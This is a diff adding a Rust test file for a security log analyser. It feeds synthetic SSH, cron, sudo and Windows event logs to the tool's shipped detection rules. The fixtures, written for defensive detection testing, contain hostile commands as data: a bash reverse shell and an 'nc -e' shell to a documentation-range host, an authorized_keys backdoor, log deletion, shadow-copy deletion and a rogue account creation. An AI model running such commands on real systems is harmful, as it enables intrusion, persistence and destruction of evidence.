@@ -1,0 +1,156 @@
+//! Logs that a reviewer made after public descriptions of techniques: the shipped rules dismiss none of these attacks, and confirm none of
+//! these ordinary days.
+
+use gimbal_evidence::extract::{Extraction, ReadOptions};
+use gimbal_evidence::judge::Verdict::{self, Inconclusive, ThreatConfirmed, ThreatDismissed};
+use gimbal_evidence::rules::{Decision, SkepticKind, single_turn};
+use gimbal_evidence::{Packet, Selection};
+
+use crate::support::shipped_rules;
+
+fn packet(source: &str) -> Packet {
+    let mut extraction =
+        Extraction::new(Selection::default(), ReadOptions { year: Some(2026), ..ReadOptions::default() });
+    extraction.read(source.as_bytes(), None, 0).unwrap();
+    extraction.finish().unwrap()
+}
+
+fn verdict(source: &str) -> Verdict {
+    single_turn(&packet(source), &shipped_rules(), SkepticKind::Deterministic, Decision::Claims).verdict
+}
+
+fn sshd(second: u32, message: &str) -> String {
+    format!("Mar 10 08:{:02}:{:02} web01 sshd[{second}]: {message}\n", second / 60, second % 60)
+}
+
+fn refused(second: u32, account: &str, from: &str) -> String {
+    sshd(second, &format!("Failed password for {account} from {from} port 4{second:04} ssh2"))
+}
+
+fn accepted(second: u32, account: &str, from: &str) -> String {
+    sshd(second, &format!("Accepted password for {account} from {from} port 5000 ssh2"))
+}
+
+fn event(id: u32, second: u32, fields: &[(&str, &str)]) -> String {
+    let data: String = fields.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{value}</Data>")).collect();
+    format!(
+        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"Microsoft-Windows-Security-Auditing\"/>\
+         <EventID>{id}</EventID><TimeCreated SystemTime=\"2026-03-10T08:{:02}:{:02}.0000000Z\"/><EventRecordID>{second}</EventRecordID>\
+         <Channel>Security</Channel><Computer>WS01</Computer></System><EventData>{data}</EventData></Event>\n",
+        second / 60,
+        second % 60
+    )
+}
+
+fn started(parent: &str, image: &str, command: &str) -> String {
+    event(
+        4688,
+        1,
+        &[
+            ("SubjectUserName", "ann"),
+            ("NewProcessName", image),
+            ("CommandLine", command),
+            ("ParentProcessName", parent),
+            ("NewProcessId", "0x1a4"),
+            ("ProcessId", "0x2b0"),
+        ],
+    )
+}
+
+const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+const EXPLORER: &str = r"C:\Windows\explorer.exe";
+const CMD: &str = r"C:\Windows\System32\cmd.exe";
+
+// covers: ARES-023
+#[test]
+fn guesses_that_end_with_a_logon_are_seen_wherever_they_come_from() {
+    let from = "198.51.100.7";
+    let one: String = (0..12).map(|second| refused(second, "root", from)).collect();
+    assert_eq!(verdict(&(one.clone() + &accepted(20, "root", from))), ThreatConfirmed);
+    assert_eq!(verdict(&one), Inconclusive);
+    let many: String =
+        (0..30).map(|second| refused(second * 10, "root", &format!("203.0.113.{}", second + 1))).collect();
+    assert_eq!(verdict(&(many + &accepted(320, "root", "203.0.113.9"))), ThreatConfirmed);
+    let accounts: String = (0..6).map(|second| refused(second, &format!("user{second}"), from)).collect();
+    assert_eq!(verdict(&(accounts + &accepted(30, "user9", from))), ThreatConfirmed);
+}
+
+// covers: ARES-023
+#[test]
+fn a_person_who_mistypes_is_not_confirmed_as_an_attacker() {
+    let few: String = (0..5).map(|second| refused(second * 9, "alice", "10.0.0.8")).collect();
+    assert_eq!(verdict(&(few + &accepted(60, "alice", "10.0.0.8"))), Inconclusive);
+    // One wrong password a day, each followed by the right one.
+    let day = |day: u32| {
+        format!(
+            "Mar {day:2} 09:00:00 web01 sshd[1]: Failed password for alice from 10.0.0.8 port 1 ssh2\n\
+             Mar {day:2} 09:00:09 web01 sshd[2]: Accepted password for alice from 10.0.0.8 port 2 ssh2\n"
+        )
+    };
+    assert_eq!(verdict(&(1..29).map(day).collect::<String>()), ThreatDismissed);
+    // An agent that offers its keys one after the other guesses nothing.
+    let keys: String = (0..12)
+        .map(|second| sshd(second, "Failed publickey for alice from 10.0.0.8 port 1 ssh2: RSA SHA256:k"))
+        .collect();
+    let key = sshd(13, "Accepted publickey for alice from 10.0.0.8 port 1 ssh2: RSA SHA256:z");
+    assert_eq!(verdict(&(keys + &key)), ThreatDismissed);
+}
+
+// covers: ARES-023
+#[test]
+fn commands_are_read_wherever_they_are_written() {
+    let cron = |command: &str| format!("Mar 10 08:04:00 web01 CRON[104]: (root) CMD ({command})\n");
+    assert_eq!(verdict(&cron("/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'")), ThreatConfirmed);
+    assert_eq!(verdict(&cron("rsync -e ssh /srv backup:/srv")), ThreatDismissed, "`nc -e` is no word of it");
+    let sudo = |command: &str| {
+        format!("Mar 10 08:05:00 web01 sudo:   ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n")
+    };
+    assert_eq!(verdict(&sudo("/bin/nc -e /bin/sh 203.0.113.66 4444")), ThreatConfirmed);
+    let covered = sudo("/usr/bin/tee -a /root/.ssh/authorized_keys") + &sudo("/bin/rm -f /var/log/auth.log");
+    assert_eq!(verdict(&covered), ThreatConfirmed);
+    assert_eq!(verdict(&sudo("/usr/bin/apt update")), ThreatDismissed);
+}
+
+// covers: ARES-023
+#[test]
+fn a_field_is_found_by_the_name_that_its_source_gives_it() {
+    assert_eq!(verdict(&started(r"C:\Windows\System32\inetsrv\w3wp.exe", CMD, "cmd.exe /c whoami")), ThreatConfirmed);
+    assert_eq!(
+        verdict(&started(r"C:\Program Files\Microsoft Office\WINWORD.EXE", CMD, "cmd.exe /c dir")),
+        ThreatConfirmed
+    );
+    assert_eq!(verdict(&started(EXPLORER, CMD, "cmd.exe /c dir")), ThreatDismissed);
+    let service = event(4697, 1, &[("ServiceName", "x"), ("ServiceFileName", "%COMSPEC% /b /c start powershell.exe")]);
+    assert_eq!(verdict(&service), ThreatConfirmed);
+}
+
+// covers: ARES-023
+#[test]
+fn an_encoded_command_is_seen_by_every_spelling_of_its_switch() {
+    for switch in ["-e", "-ec", "-enc", "/enc", "-EncodedCommand", "-encodedc"] {
+        let command = format!("powershell.exe -NoP  {switch} JABjAGwA");
+        assert_eq!(verdict(&started(EXPLORER, POWERSHELL, &command)), Inconclusive, "{command}");
+    }
+    for ordinary in
+        ["powershell.exe -ExecutionPolicy Bypass -File a.ps1", "powershell.exe -Command Out-File -Encoding utf8"]
+    {
+        assert_eq!(verdict(&started(EXPLORER, POWERSHELL, ordinary)), ThreatDismissed, "{ordinary}");
+    }
+    // Blanks in a row count as one, as for the shell that reads them.
+    assert_eq!(verdict(&started(EXPLORER, CMD, "vssadmin  delete   shadows /all")), ThreatConfirmed);
+    assert_eq!(verdict(&started(EXPLORER, CMD, "net  user hax P@ss1 /add")), Inconclusive);
+}
+
+// covers: ARES-023
+#[test]
+fn wrong_passwords_at_a_domain_controller_are_guesses_too() {
+    let refused = |second: u32| {
+        let fields =
+            [("TargetUserName", "bob"), ("Status", "0x18"), ("PreAuthType", "2"), ("IpAddress", "::ffff:10.0.0.66")];
+        event(4771, second, &fields)
+    };
+    let events: String = (0..60).map(refused).collect();
+    assert_eq!(verdict(&format!("<Events>{events}</Events>")), Inconclusive);
+    let one: String = (0..3).map(refused).collect();
+    assert_eq!(verdict(&format!("<Events>{one}</Events>")), ThreatDismissed);
+}
